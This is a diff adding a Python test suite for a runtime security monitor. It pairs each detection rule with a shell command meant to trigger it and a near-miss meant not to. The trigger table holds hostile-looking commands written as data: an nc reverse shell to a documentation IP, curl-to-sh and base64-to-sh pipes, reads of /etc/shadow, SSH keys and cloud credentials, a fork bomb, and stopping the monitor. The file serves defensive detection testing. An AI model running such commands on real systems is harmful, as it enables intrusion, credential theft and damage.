@@ -1,0 +1,288 @@
+# SPDX-License-Identifier: Apache-2.0
+"""
+nunchi's own rules, all of them in force: for each a deed in a real container that makes it fire, and
+one that differs from it in one thing and must not. The deeds are lines of shell, run one after the
+other; a program that means nothing (marker) is run before each, and a rule of the test's own tells of
+it, so that alerts can be given to deeds.
+
+Programs of other names are progs/deed.c, by links in /opt/t.
+"""
+
+import json
+import os
+import re
+import shutil
+import subprocess
+
+from harness.nunchi import TOP
+from harness.place import patient, wait_until
+
+RULES = os.path.join(TOP, "rules", "default.yaml")
+
+MARKER = """
+- rule: Marker
+  desc: A deed begins.
+  condition: evt.type = execve and evt.rawres = 0 and proc.name = marker
+  output: "%proc.args"
+  priority: DEBUG
+"""
+
+# Rule: (a deed that makes it fire, one that is nearly that).
+DEEDS = {
+    # Out of the container
+    "Cgroup release agent written": ("deed write /tmp/release_agent", "deed read /tmp/release_agent"),
+    "Kernel helper path written": ("deed write /proc/sys/kernel/core_pattern",
+                                   "deed read /proc/sys/kernel/core_pattern"),
+    "Process left its container": ("deed setns /hostproc/$OUTSIDE/ns/uts", "deed setns /proc/self/ns/uts"),
+    "Kernel module loaded from a container": ("deed finit_module", "deed delete_module"),
+    "BPF program loaded from a container": ("deed bpf 5", "deed bpf 0"),
+    "Disk or memory device opened": ("deed read /dev/kmem", "deed read /dev/zero"),
+    "File opened by its handle": ("deed handle /tmp/file 1", "deed handle /tmp/file 0"),
+    "Container runtime's socket used": ("deed connect-path /run/docker.sock",
+                                        "deed connect-path /run/docker.socket"),
+    "File system mounted in a container": ("mount -t tmpfs none /mnt", "mount -t nonesuch none /mnt"),
+    "User namespace made in a container": ("deed unshare 0x10000000", "deed unshare 0x04000000"),
+    "Container runtime's program written": ("nginx write /proc/self/exe", "nginx read /proc/self/exe"),
+    "Devices allowed to a cgroup": ("deed write /tmp/devices.allow", "deed write /tmp/devices.list"),
+    "Cgroup told to notify": ("deed write /tmp/notify_on_release", "deed read /tmp/notify_on_release"),
+    "Kernel setting written": ("deed write /proc/sys/kernel/domainname",
+                               "deed read /proc/sys/kernel/domainname"),
+    "Namespace joined in a container": ("deed setns /proc/self/ns/uts", "deed setns /proc/self/status"),
+    "Tool for others' namespaces runs": ("nsenter -t $$ -u /bin/true", "/opt/t/enter -t 1"),
+    "Files reached through a process's root": ("deed read /proc/1/root/etc/passwd",
+                                               "deed read /proc/self/root/etc/passwd"),
+    "Block device made": ("mknod /tmp/disk b 250 99", "mknod /tmp/null c 1 3"),
+    "File system debugger runs": ("debugfs", "dumpfs"),
+    "Another kernel to be started": ("deed kexec_load", "deed finit_module"),
+    "Hardware's ports asked for": ("deed iopl 3", "deed iopl 0"),
+    "Root directory changed": ("chroot / /bin/true", "chroot /nowhere /bin/true"),
+    "Pod manifest written": ("deed write /etc/kubernetes/manifests/pod.yaml",
+                             "deed read /etc/kubernetes/manifests/pod.yaml"),
+    # What runs
+    "Shell started by a server": ("nginx run sh -c :", "app run sh -c :"),
+    "Program runs from memory": ("deed memory nothing", "deed run /bin/true"),
+    "Program runs from shared memory": ("cp /opt/t/deed /dev/shm/x; /dev/shm/x nothing",
+                                        "cp /opt/t/deed /tmp/shm; /tmp/shm nothing"),
+    "Program runs from a temporary directory": ("cp /opt/t/deed /tmp/x1; /tmp/x1 nothing",
+                                                "mkdir /opt/tmp; cp /opt/t/deed /opt/tmp/x; /opt/tmp/x nothing"),
+    "Standard stream goes to the network": ("deed stdin 0", "deed stdin 7"),
+    "Netcat runs a program": ("nc -e /bin/sh 203.0.113.9 1", "nc 203.0.113.9 1"),
+    "Cryptocurrency miner runs": ("app -o stratum+tcp://pool.invalid:3333", "app -o tcp://pool.invalid:3333"),
+    "Shell with a terminal": ("deed terminal sh -c :", "deed run sh -c :"),
+    "Program was written in the container": ("cp /opt/t/deed /opt/new; /opt/new nothing", "/opt/t/deed nothing"),
+    "Program runs from a hidden directory": ("/opt/.t/deed nothing", "/opt/t/deed nothing"),
+    "Download goes into a shell": ("sh -c 'curl -s http://x.invalid/a | sh'", "sh -c 'curl -s http://x.invalid/a | cat'"),
+    "Decoded text is executed": ("sh -c 'echo Og== | base64 -d | sh'", "sh -c 'echo Og== | base64 -d | cat'"),
+    "Interpreter runs a one-line network program": ("python3 -c 'import socket'", "python3 -c 'import os'"),
+    "Shell connects to the network": ("bash -c ': </dev/tcp/203.0.113.9/443'", "bash -c ': </dev/tcp/127.0.0.1/443'"),
+    "Server starts a tool": ("nginx run id", "app run id"),
+    "Download tool runs": ("/opt/t/curl http://x.invalid", "/opt/t/curlew http://x.invalid"),
+    "Tool for containers or clusters runs": ("kubectl get pods", "kubelet get pods"),
+    "Attack tool runs": ("linpeas.sh", "linpeas.txt"),
+    "Tunnel made": ("chisel client x.invalid", "chise client x.invalid"),
+    "Netcat listens": ("nc -l -p 4444", "nc -z 203.0.113.9 4444"),
+    # Credentials
+    "Password hashes read": ("cat /etc/shadow", "sshd read /etc/shadow"),
+    "Service account token read by a tool": ("cat /run/secrets/kubernetes.io/serviceaccount/token",
+                                             "app read /run/secrets/kubernetes.io/serviceaccount/token"),
+    "SSH private key read": ("cat /root/.ssh/id_rsa", "cat /root/.ssh/id_rsa.pub"),
+    "Cloud metadata asked for": ("deed connect 169.254.169.254 80", "deed connect 169.254.169.253 80"),
+    "Environment of another process read": ("cat /proc/1/environ", "cat /proc/self/environ"),
+    "Cloud credentials read by a tool": ("cat /root/.aws/credentials", "app read /root/.aws/credentials"),
+    "Cluster's own keys read": ("deed read /etc/kubernetes/admin.conf", "kubelet read /etc/kubernetes/admin.conf"),
+    "Keys searched for": ("find /root -name id_rsa", "find /root -name readme"),
+    "Memory of another process read by file": ("deed read /proc/1/mem", "deed read /proc/self/mem"),
+    "Memory of another process read": ("deed vm-read", "gdb vm-read"),
+    "Shell history read by a tool": ("cat /root/.bash_history", "app read /root/.bash_history"),
+    "Way of logging in changed": ("deed write /etc/pam.d/common-auth", "dpkg write /etc/pam.d/common-auth"),
+    # To stay
+    "Scheduled job written": ("deed write /etc/cron.d/job", "dpkg write /etc/cron.d/job"),
+    "SSH authorized keys written": ("deed write /root/.ssh/authorized_keys", "deed write /root/.ssh/known_hosts"),
+    "Library preloaded into every program": ("deed write /etc/ld.so.preload; rm /etc/ld.so.preload",
+                                             "deed write /etc/ld.so.cache2"),
+    "System program written": ("deed write /usr/bin/tool", "dpkg write /usr/bin/tool"),
+    "Accounts changed by hand": ("deed write /etc/passwd", "useradd write /etc/passwd"),
+    "Setuid bit set": ("chmod 4755 /tmp/file", "chmod 755 /tmp/file"),
+    "Shell's start files written": ("deed write /root/.bashrc", "useradd write /root/.bashrc"),
+    "Service written": ("deed write /etc/systemd/system/x.service", "systemctl write /etc/systemd/system/x.service"),
+    "Loader's paths written": ("deed write /etc/ld.so.conf.d/x.conf", "dpkg write /etc/ld.so.conf.d/x.conf"),
+    "Certificate authority added": ("deed write /usr/local/share/ca-certificates/x.crt",
+                                    "dpkg write /usr/local/share/ca-certificates/x.crt"),
+    "Capability given to a file": ("deed attribute /tmp/file security.capability", "deed attribute /tmp/file user.x"),
+    "Names sent elsewhere": ("deed write /etc/hosts", "deed read /etc/hosts"),
+    "SSH server runs": ("sshd nothing", "sshdd nothing"),
+    # Looking around
+    "Packet socket made": ("deed packet", "deed socket"),
+    "Network scanner runs": ("nmap -sS 10.0.0.0/8", "map"),
+    "Cluster's API asked by a tool": ("curl connect 10.96.0.1 10250", "app connect 10.96.0.1 10250"),
+    "Looks whether it is in a container": ("cat /proc/1/cgroup", "cat /proc/1/status"),
+    "Raw socket made": ("deed raw", "ping raw"),
+    "Remote login tool runs": ("ssh host.invalid", "sshh host.invalid"),
+    "Chat or anonymous network contacted": ("deed connect 203.0.113.9 6667", "deed connect 203.0.113.9 6668"),
+    "Kernel log read": ("deed syslog 3", "deed syslog 10"),
+    # Covering tracks, and other processes
+    "Log removed": ("/bin/rm /var/log/a.log", "/bin/rm /tmp/a.log"),
+    "Shell history removed": ("/bin/rm /root/.ash_history", "mv /root/plain /root/plain2"),
+    "Another process is traced": ("deed ptrace 16", "strace ptrace 16"),
+    "Memory of another process written": ("deed vm-write", "deed vm-read"),
+    "Log emptied": ("deed empty /var/log/b.log", "deed write /var/log/b.log"),
+    "Hidden file made where all can write": ("deed write /tmp/.hidden", "deed write /tmp/shown"),
+    "Process hidden by a mount": ("mount -t tmpfs none /proc/$$", "mount -t tmpfs none /mnt"),
+    "Process is named like one of the kernel's": ("kworker nothing", "worker nothing"),
+    "Ring for calls made": ("deed ring", "deed socket"),
+    "Fault handler made": ("deed userfaultfd 1", "criu userfaultfd 1"),
+    "Kernel's tracing changed": ("deed write /sys/kernel/tracing/tracing_on", "deed read /sys/kernel/tracing/tracing_on"),
+    "Monitor to be stopped": ("pkill falco", "pkill app"),
+    "Protection switched off": ("deed write /sys/fs/selinux/enforce", "deed read /sys/fs/selinux/enforce"),
+    "Kernel module removed from a container": ("deed delete_module", "deed finit_module"),
+    "File made unchangeable": ("chattr +i /tmp/x", "chattr -i /tmp/x"),
+    "Times of a file set by hand": ("touch -d 2001-01-01 /tmp/file", "touch /tmp/file"),
+    "Clock set": ("deed nobody clock 0", "deed clock 77"),
+    # Damage
+    "Disk wiped": ("dd if=/dev/zero of=/dev/sdzz count=0", "dd if=/dev/zero of=/tmp/zz count=0"),
+    "Everything removed": ("/opt/t/rm -rf /var", "/opt/t/rm -rf /var/tmp/x"),
+    "File got a ransomware's ending": ("mv /tmp/file /tmp/file.locked; mv /tmp/file.locked /tmp/file",
+                                       "mv /tmp/file /tmp/file.bak; mv /tmp/file.bak /tmp/file"),
+    "Ransom note written": ("deed write /tmp/HOW_TO_DECRYPT.txt", "deed read /tmp/HOW_TO_DECRYPT.txt"),
+    "Encryption by a tool": ("openssl enc -aes-256-cbc -in /tmp/file", "openssl enc -d -aes-256-cbc -in /tmp/file"),
+    "No more processes can be made": ("deed nobody forks", "deed run /bin/true"),
+    "Fork bomb typed": ("sh -c ': || b(){ b|b& };:'", "sh -c ': || b(){ c|b; };:'"),
+    "Machine to be stopped": ("deed reboot 0xcdef0123", "deed reboot 0"),
+}
+
+# From outside, with the container running: what the test does instead of a line of shell.
+OUTSIDE = {"Somebody came into a container"}
+
+# Programs by other names; what they do is said by their first argument.
+NAMES = """app chattr chisel chise criu curl curlew debugfs deed dpkg dumpfs enter gdb kubectl kubelet
+kworker linpeas.sh linpeas.txt logrotate map marker nc nginx nmap openssl ping pkill python3 rm ssh sshd
+sshdd sshh strace systemctl useradd worker""".split()
+
+# What the deeds find there; a line each.
+FILES = """/etc/cron.d/other /etc/hosts /etc/kubernetes/admin.conf /etc/kubernetes/manifests/pod.yaml
+/etc/ld.so.conf.d/other.conf /etc/pam.d/common-auth /etc/shadow /etc/systemd/system/other.service
+/root/.ash_history /root/.aws/credentials /root/.bash_history /root/.ssh/id_rsa /root/.ssh/id_rsa.pub
+/root/plain /run/secrets/kubernetes.io/serviceaccount/token /sys/fs/selinux/enforce
+/sys/kernel/tracing/tracing_on /usr/local/share/ca-certificates/other.crt /var/log/a.log
+/var/log/b.log""".split()
+
+DRIVER = """export PATH=/opt/t:/usr/bin:/bin
+touch /tmp/file /tmp/a.log /tmp/release_agent /tmp/notify_on_release /tmp/HOW_TO_DECRYPT.txt /dev/kmem
+for deed in /rows/*; do
+	marker "$deed"
+	/bin/bash "$deed" </dev/null >/dev/null 2>>/output
+done
+marker end
+exec /bin/pause
+"""
+
+
+def rule_names():
+    with open(RULES, encoding="utf-8") as f:
+        return re.findall(r"^- rule: (.+)$", f.read(), re.MULTILINE)
+
+
+def write(root, path, text):
+    path = root + path
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w", encoding="utf-8") as f:
+        f.write(text)
+
+
+def make_image(setup):
+    """Upon the usual root what the deeds need; rows are named by number, so that they go in order."""
+    root = setup.directory("rules", "image")
+    for directory in ("/opt/t", "/opt/.t"):
+        os.makedirs(root + directory, exist_ok=True)
+        shutil.copy(os.path.join(setup.root, "bin/deed"), root + directory)
+    for name in NAMES:
+        if name != "deed":
+            os.link(root + "/opt/t/deed", f"{root}/opt/t/{name}")
+    for path in FILES:
+        write(root, path, "nothing\n")
+    for n, deeds in enumerate(DEEDS.values()):
+        for kind, deed in zip(("fire", "miss"), deeds):
+            write(root, f"/rows/{n:03}-{kind}", deed + "\n")
+    write(root, "/driver", DRIVER)
+    return root
+
+
+def make_overlay(setup):
+    """A root as the engines make one: an image below, and above what is written. None: it cannot be."""
+    image, upper = make_image(setup), setup.directory("rules", "upper")
+    work, merged = setup.directory("rules", "work"), setup.directory("rules", "merged")
+    done = subprocess.run(["mount", "-t", "overlay", "overlay", "-o",
+                           f"lowerdir={image}:{setup.root},upperdir={upper},workdir={work}", merged],
+                          check=False, capture_output=True, text=True)
+    assert done.returncode == 0, done.stderr
+    setup.stack.callback(subprocess.run, ["umount", "-l", merged], check=False)
+    return merged
+
+
+def make_container(setup):
+    made = setup.runc.create(setup.name + "-rules", ["/bin/bash", "/driver"], privileged=True,
+                             root=make_overlay(setup), env=[f"OUTSIDE={os.getpid()}"],
+                             binds=[("/hostproc", "/proc")])
+    config = os.path.join(made.bundle, "config.json")
+    with open(config, encoding="utf-8") as f:
+        spec = json.load(f)
+    spec["root"]["readonly"] = False
+    for mount in spec["mounts"]:
+        if mount["destination"] == "/dev/shm":
+            mount["options"].remove("noexec")
+    with open(config, "w", encoding="utf-8") as f:
+        json.dump(spec, f)
+    return made
+
+
+def start_guard(setup, *args):
+    rules = setup.file("marker.yaml")
+    with open(rules, "w", encoding="utf-8") as f:
+        f.write(MARKER)
+    return setup.nunchi("guard", "-o", "json", "-f", RULES, "-f", rules, *args)
+
+
+def by_deed(alerts, container):
+    """Marker's text -> {rule: how often}; "" is before the first."""
+    found, now = {"": {}}, ""
+    for alert in alerts:
+        if alert["output_fields"]["container.name"] != container:
+            continue
+        if alert["rule"] == "Marker":
+            now = alert["output_fields"]["proc.args"]
+            found[now] = {}
+        else:
+            found[now][alert["rule"]] = found[now].get(alert["rule"], 0) + 1
+    return found
+
+
+def test_each_has_its_deeds(_setup):
+    """No rule without a test, and no test of a rule that is no more."""
+    rules = set(rule_names())
+    assert len(rules) >= 60, len(rules)
+    assert rules == set(DEEDS) | OUTSIDE, rules ^ (set(DEEDS) | OUTSIDE)
+
+
+def test_each_fires_for_its_deed_alone(setup):
+    made, nunchi = make_container(setup), start_guard(setup)
+    made.start()
+    try:
+        nunchi.wait_event(lambda e: e["rule"] == "Marker" and e["output_fields"]["proc.args"] == "end" and
+                          e["output_fields"]["container.name"] == made.name, 60, "the last deed")
+    except TimeoutError as error:
+        done = list(by_deed(nunchi.events(), made.name))
+        raise AssertionError(f"no end after {done[-1]}: {made.output()[-500:]} {nunchi.stderr()}") from error
+    made.execute(["/bin/true"])
+    wait_until(lambda: b"brought into" in nunchi.text(), 10, "the alert of who came in")
+    assert nunchi.stop() == 0, nunchi.stderr()
+    found, wrong = by_deed(nunchi.events(), made.name), []
+    for n, rule in enumerate(DEEDS):
+        for kind, expected in (("fire", 1), ("miss", 0)):
+            times = found[f"/rows/{n:03}-{kind}"].get(rule, 0)
+            if times != expected:
+                wrong.append(f"{rule}: {times} times after `{DEEDS[rule][expected == 0]}`")
+    entered = "Somebody came into a container"
+    if found["end"].get(entered) != 1 or sum(entered in alerts for alerts in found.values()) != 1:
+        wrong.append(f"{entered}: {found['end']}")
+    with open(os.path.join(setup.path, "rules", "upper", "output"), encoding="utf-8") as f:
+        assert not wrong, f"{len(wrong)} wrong:\n" + "\n".join(wrong) + "\n" + f.read()[-1000:]
